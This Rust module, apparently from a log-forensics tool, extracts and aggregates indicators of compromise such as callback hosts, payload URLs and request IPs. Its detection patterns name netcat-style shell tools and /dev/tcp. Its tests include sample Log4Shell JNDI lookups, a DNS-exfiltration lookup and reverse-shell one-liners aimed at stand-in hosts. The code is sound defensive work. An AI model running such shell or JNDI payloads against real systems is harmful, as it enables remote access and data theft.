//! Indicators of compromise taken from hits: URLs, domains, IPs and ports of payloads and
//! callbacks, and the request source IP of access-log lines; merged per bundle.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

use super::jndi::JndiInfo;
use crate::model::{Locator, Timestamp};

pub use crate::model::{IocKind, IocRef};

/// An indicator over the whole bundle.
#[derive(Clone, Debug, Serialize)]
pub struct Ioc {
    #[serde(rename = "type")]
    pub kind: IocKind,
    pub value: String,
    /// Hits carrying it.
    pub count: usize,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub first_seen: Option<Timestamp>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub last_seen: Option<Timestamp>,
    /// Roles it plays: `request-source`, `callback`, `payload`.
    pub roles: BTreeSet<&'static str>,
    /// Indexes into `log_hits`.
    pub hits: Vec<usize>,
    /// Where the first hits carrying it are (at most 20).
    pub locators: Vec<Locator>,
}

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:https?|ldaps?|rmi|dns|iiop|corba|nis|nds|ftp|tftp|telnet|stratum\+(?:tcp|ssl|tls))://[^\s\x22'<>`|;(){}\[\]\\,]+")
        .expect("valid built-in regex")
});
static IPV4: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[^\w.])((?:\d{1,3}\.){3}\d{1,3})(?:[^\w.]|\.?$)").expect("valid built-in regex")
});
static DEV_TCP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)/dev/(?:tcp|udp)/([\w.\-]+)/(\d{1,5})|/inet/(?:tcp|udp)/\d+/([\w.\-]+)/(\d{1,5})")
        .expect("valid built-in regex")
});
static HOST_PORT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:nc|ncat|netcat|telnet|socat|rcat)\b[^|;\n]*?\b((?:\d{1,3}\.){3}\d{1,3})[\s:,]+(\d{1,5})\b|(?:fsockopen|TCPSocket\.(?:new|open)|TCPClient|connect)\(\s*\(?\s*['\x22]([\w.\-]+)['\x22]\s*,\s*['\x22]?(\d{1,5})")
        .expect("valid built-in regex")
});
static ACCESS_SOURCE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^(?:\S+\s+)?((?:\d{1,3}\.){3}\d{1,3}|[0-9a-fA-F:]*:[0-9a-fA-F:]+) \S+ \S+ \[[^\]]+\] ""#)
        .expect("valid built-in regex")
});

/// Indicators of one hit: from its record text (decoded when it was), its JNDI lookup and
/// its decoded commands. `raw_record` gives the access-log request source.
pub fn extract(raw_record: &[u8], text: &str, jndi: Option<&JndiInfo>, commands: &[String]) -> Vec<IocRef> {
    let mut out = BTreeSet::new();
    let head = String::from_utf8_lossy(&raw_record[..raw_record.len().min(512)]);
    let mut source = None;
    if let Some(c) = ACCESS_SOURCE.captures(&head) {
        let ip = c[1].to_string();
        out.insert(IocRef { kind: IocKind::Ip, value: ip.clone(), role: "request-source" });
        source = Some(ip);
    }
    if let Some(j) = jndi {
        if let Some(h) = &j.host {
            for part in h.split('#') {
                add_host(&mut out, part, "callback");
            }
        }
        if let Some(p) = j.port {
            out.insert(IocRef { kind: IocKind::Port, value: p.to_string(), role: "callback" });
        }
        if j.host.is_some() && !j.scheme.is_empty() {
            let url = format!(
                "{}://{}{}{}",
                j.scheme,
                j.host.as_deref().unwrap_or(""),
                j.port.map(|p| format!(":{p}")).unwrap_or_default(),
                j.path
            );
            out.insert(IocRef { kind: IocKind::Url, value: url, role: "callback" });
        }
    }
    // `+` is a space in a query string: `wget+http://h/x+-O+/tmp/y` names `http://h/x`.
    let text = String::from_utf8_lossy(&super::decode::query_plus(text.as_bytes())).into_owned();
    let mut texts: Vec<&str> = vec![&text];
    texts.extend(commands.iter().map(String::as_str));
    for t in texts {
        for m in URL.find_iter(t) {
            let url = m.as_str().trim_end_matches(['.', ':']);
            out.insert(IocRef { kind: IocKind::Url, value: url.to_string(), role: "payload" });
            if let Some(rest) = url.split_once("://").map(|(_, r)| r) {
                let authority = rest.split('/').next().unwrap_or("");
                let authority = authority.rsplit('@').next().unwrap_or(authority);
                let (host, port) = match authority.rsplit_once(':') {
                    Some((h, p)) if p.bytes().all(|b| b.is_ascii_digit()) && !p.is_empty() => (h, Some(p)),
                    _ => (authority, None),
                };
                for part in host.split('#') {
                    add_host(&mut out, part, "payload");
                }
                if let Some(p) = port.and_then(|p| p.parse::<u16>().ok()) {
                    out.insert(IocRef { kind: IocKind::Port, value: p.to_string(), role: "payload" });
                }
            }
        }
        for c in DEV_TCP.captures_iter(t).chain(HOST_PORT.captures_iter(t)) {
            let host = c.get(1).or(c.get(3)).map(|m| m.as_str());
            let port = c.get(2).or(c.get(4)).map(|m| m.as_str());
            if let Some(h) = host {
                add_host(&mut out, h, "callback");
            }
            if let Some(p) = port.and_then(|p| p.parse::<u16>().ok()) {
                out.insert(IocRef { kind: IocKind::Port, value: p.to_string(), role: "callback" });
            }
        }
        for c in IPV4.captures_iter(t) {
            let ip = &c[1];
            if valid_ipv4(ip) && source.as_deref() != Some(ip) {
                out.insert(IocRef { kind: IocKind::Ip, value: ip.to_string(), role: "payload" });
            }
        }
    }
    out.into_iter().collect()
}

fn add_host(out: &mut BTreeSet<IocRef>, host: &str, role: &'static str) {
    // `${sys:java.version}.cb.example`: the lookup exfiltrates through DNS labels; the
    // domain after the last unresolved lookup is the attacker's.
    let host = match host.rfind('}') {
        Some(p) if host.contains("${") => &host[p + 1..],
        _ => host,
    };
    let host = host.trim_matches(|c: char| c == '[' || c == ']' || c == '.').to_ascii_lowercase();
    if host.is_empty() || host.contains("${") {
        return;
    }
    if valid_ipv4(&host) {
        out.insert(IocRef { kind: IocKind::Ip, value: host, role });
    } else if host.contains('.')
        && host.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
        && host
            .rsplit('.')
            .next()
            .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
    {
        out.insert(IocRef { kind: IocKind::Domain, value: host, role });
    }
}

fn valid_ipv4(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() == 4
        && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u16>().is_ok_and(|v| v <= 255))
        && s != "0.0.0.0"
}

/// Merge the indicators of all hits (`(hit index, time, locator, refs)`) per bundle.
pub fn aggregate<'a>(
    hits: impl Iterator<Item = (usize, Option<Timestamp>, &'a Locator, &'a [IocRef])>,
) -> Vec<Ioc> {
    let mut map: BTreeMap<(IocKind, String), Ioc> = BTreeMap::new();
    for (idx, time, loc, refs) in hits {
        for r in refs {
            let e = map.entry((r.kind, r.value.clone())).or_insert_with(|| Ioc {
                kind: r.kind,
                value: r.value.clone(),
                count: 0,
                first_seen: None,
                last_seen: None,
                roles: BTreeSet::new(),
                hits: Vec::new(),
                locators: Vec::new(),
            });
            e.roles.insert(r.role);
            if e.hits.last() != Some(&idx) {
                e.count += 1;
                e.hits.push(idx);
                if e.locators.len() < 20 {
                    e.locators.push(loc.clone());
                }
            }
            if let Some(t) = time {
                e.first_seen = Some(e.first_seen.map_or(t, |f| f.min(t)));
                e.last_seen = Some(e.last_seen.map_or(t, |l| l.max(t)));
            }
        }
    }
    map.into_values().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn vals(refs: &[IocRef]) -> Vec<String> {
        refs.iter().map(|r| format!("{:?}:{}:{}", r.kind, r.value, r.role)).collect()
    }

    #[test]
    fn access_log_line_with_jndi() {
        let raw = br#"203.0.113.7 - - [27/Nov/2026:14:00:00 +0000] "GET /?x=${jndi:ldap://evil.example:1389/a} HTTP/1.1" 200 5 "-" "Mozilla/5.0 Chrome/97.0.4692.71""#;
        let j = super::super::jndi::evaluate(std::str::from_utf8(raw).unwrap()).jndi.into_iter().next();
        let refs = extract(raw, std::str::from_utf8(raw).unwrap(), j.as_ref(), &[]);
        let v = vals(&refs);
        assert!(v.contains(&"Ip:203.0.113.7:request-source".to_string()), "{v:?}");
        assert!(v.contains(&"Domain:evil.example:callback".to_string()), "{v:?}");
        assert!(v.contains(&"Port:1389:callback".to_string()), "{v:?}");
        assert!(v.contains(&"Url:ldap://evil.example:1389/a:callback".to_string()), "{v:?}");
        assert!(!v.iter().any(|s| s.contains("97.0.4692")), "{v:?}");
    }

    #[test]
    fn exfiltration_labels_leave_the_domain() {
        let t = "${jndi:ldap://${sys:java.version}.cb.example/a}";
        let j = super::super::jndi::evaluate(t).jndi.into_iter().next();
        let v = vals(&extract(t.as_bytes(), t, j.as_ref(), &[]));
        assert!(v.contains(&"Domain:cb.example:callback".to_string()), "{v:?}");
    }

    #[test]
    fn shells_give_callbacks() {
        let t = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1; nc -e /bin/sh 192.0.2.1 4444; php -r '$sock=fsockopen(\"evil.example\",80);'";
        let v = vals(&extract(t.as_bytes(), t, None, &[]));
        for want in [
            "Ip:10.0.0.1:callback",
            "Port:4242:callback",
            "Ip:192.0.2.1:callback",
            "Port:4444:callback",
            "Domain:evil.example:callback",
        ] {
            assert!(v.contains(&want.to_string()), "{want} not in {v:?}");
        }
        assert!(!vals(&extract(
            b"version 1.2.3.4.5 and 999.1.1.1",
            "version 1.2.3.4.5 and 999.1.1.1",
            None,
            &[]
        ))
        .iter()
        .any(|s| s.starts_with("Ip")));
    }
}
